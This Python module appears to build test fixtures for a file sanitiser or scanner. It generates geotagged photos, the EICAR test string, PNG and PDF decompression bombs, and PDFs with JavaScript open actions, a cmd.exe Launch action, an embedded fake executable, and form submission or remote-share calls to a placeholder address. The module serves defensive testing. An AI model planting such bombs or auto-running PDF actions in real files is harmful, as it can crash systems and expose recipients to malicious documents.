"""Files as people and attackers send them, made on the spot."""

import io
import os
import struct
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
import pillow_heif
from PIL import ExifTags, Image

pillow_heif.register_heif_opener()

ORIENTATION = ExifTags.Base.Orientation
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def picture(size: tuple[int, int] = (80, 60), *, seed: int = 0) -> Image.Image:
    """Return a picture whose left half is red and whose right half is a shade of blue."""
    image = Image.new("RGB", size, (220, 20, 20))
    blue = (20, 20 + seed % 200, 220)
    image.paste(blue, (size[0] // 2, 0, size[0], size[1]))
    return image


def photo(kind: str = "JPEG", *, image: Image.Image | None = None, **options: object) -> bytes:
    """Return a photo in the given format."""
    target = io.BytesIO()
    (image or picture()).save(target, kind, **options)
    return target.getvalue()


def noisy_photo(kind: str = "JPEG") -> bytes:
    """Return a photo that is long enough to be cut off somewhere."""
    return photo(kind, image=Image.effect_noise((300, 200), 60).convert("RGB"))


def geotagged_photo(*, orientation: int = 1) -> bytes:
    """Return a phone's photo: with a place, a maker, a comment, and turned by the camera."""
    exif = Image.Exif()
    exif[ORIENTATION] = orientation
    exif[ExifTags.Base.Make] = "SecretMaker"
    place = exif.get_ifd(ExifTags.IFD.GPSInfo)
    place[ExifTags.GPS.GPSLatitudeRef] = "N"
    place[ExifTags.GPS.GPSLatitude] = (35.0, 24.0, 53.0)
    place[ExifTags.GPS.GPSAreaInformation] = b"ASCII\0\0\0SecretPlace"
    return photo(exif=exif, comment=b"SecretComment", xmp=b"<x:xmpmeta>SecretXmp</x:xmpmeta>")


def huge_png(width: int, height: int) -> bytes:
    """Return a small PNG file that unfolds to that many pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        check = struct.pack(">I", zlib.crc32(kind + data))
        return struct.pack(">I", len(data)) + kind + data + check

    packer = zlib.compressobj(9)
    row = b"\0" * (width // 8 + 1)
    rows = b"".join(packer.compress(row * 1000) for _ in range(height // 1000)) + packer.flush()
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def pdf(
    pages: int = 1, *, change: Callable[[pikepdf.Pdf], None] | None = None, **options: object
) -> bytes:
    """Return a PDF, with whatever the change puts into it."""
    target = io.BytesIO()
    with pikepdf.new() as document:
        for _ in range(pages):
            document.add_blank_page()
        if change:
            change(document)
        document.save(target, **options)
    return target.getvalue()


def with_script(document: pikepdf.Pdf) -> None:
    """Let the PDF run a program when it is opened."""
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def with_hidden_script(document: pikepdf.Pdf) -> None:
    """Hide a program deep in the annotations of a page."""
    action = pikepdf.Dictionary(
        S=pikepdf.Name.URI,
        URI="http://example.com",
        Next=pikepdf.Array([pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="x()")]),
    )
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, A=action)
    document.pages[0].Annots = pikepdf.Array([document.make_indirect(link)])


def with_launch(document: pikepdf.Pdf) -> None:
    """Let a click start a program of the reader's machine."""
    action = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, A=action)
    document.pages[0].Annots = pikepdf.Array([link])


def with_embedded_file(document: pikepdf.Pdf) -> None:
    """Put a file into the PDF."""
    document.attachments["invoice.exe"] = b"MZ" + b"\0" * 100


def with_form_sending(document: pikepdf.Pdf) -> None:
    """Let the PDF send what is typed to somewhere."""
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="http://example.com")


def with_remote_page(document: pikepdf.Pdf) -> None:
    """Let the PDF open a file of another machine as soon as it is opened."""
    document.Root.OpenAction = pikepdf.Dictionary(
        S=pikepdf.Name.GoToR, F="\\\\203.0.113.9\\share\\x.pdf", D=pikepdf.Array([0])
    )


def with_call_on_opening(document: pikepdf.Pdf) -> None:
    """Let the PDF call an address as soon as it is opened."""
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="http://203.0.113.9/")


def with_call_on_a_page(document: pikepdf.Pdf) -> None:
    """Let the PDF call an address as soon as its first page is shown."""
    action = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="http://203.0.113.9/")
    document.pages[0].obj["/AA"] = pikepdf.Dictionary(O=action)


def with_contents_elsewhere(document: pikepdf.Pdf) -> None:
    """Let the contents of a page come from another machine."""
    stream = document.make_stream(b"")
    stream["/F"] = pikepdf.String("http://203.0.113.9/page")
    document.pages[0].obj["/Contents"] = stream


def with_plain_link(document: pikepdf.Pdf) -> None:
    """Begin at the first page and hold a link that does nothing by itself."""
    action = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="http://www.example.com/")
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, A=action)
    document.pages[0].Annots = pikepdf.Array([link])
    document.Root.OpenAction = pikepdf.Array([document.pages[0].obj, pikepdf.Name.Fit])


def archive(name: str = "word/document.xml", data: bytes = b"<w/>") -> bytes:
    """Return a zip archive, as office documents are."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("[Content_Types].xml", "<Types/>")
        file.writestr(name, data)
    return target.getvalue()


def object_stream_bomb() -> bytes:
    """Return a PDF of 1 MB whose catalogue unfolds to 1 GB when it is read."""
    packer = zlib.compressobj(9)
    piece = b"1 0 " * 262144
    packed = b"".join(packer.compress(piece) for _ in range(1000)) + packer.flush()
    out = b"%PDF-1.5\n"
    catalogue = len(out)
    out += b"1 0 obj\n<</Type/Catalog/Pages 3 0 R>>\nendobj\n"
    stream = len(out)
    out += b"2 0 obj\n<</Type/ObjStm/N 100/First 800/Filter/FlateDecode"
    out += b"/Length %d>>\nstream\n" % len(packed) + packed + b"\nendstream\nendobj\n"
    start = len(out)
    rows = b"".join(
        struct.pack(">BIH", kind, where, 0)
        for kind, where in ((0, 0), (1, catalogue), (1, stream), (2, 2), (1, start))
    )
    out += b"4 0 obj\n<</Type/XRef/Size 5/W[1 4 2]/Root 1 0 R"
    out += b"/Length %d>>\nstream\n" % len(rows) + rows + b"\nendstream\nendobj\n"
    return out + b"startxref\n%d\n%%%%EOF\n" % start


def program() -> bytes:
    """Return something like a Windows program."""
    return b"MZ\x90\0" + os.urandom(4000)
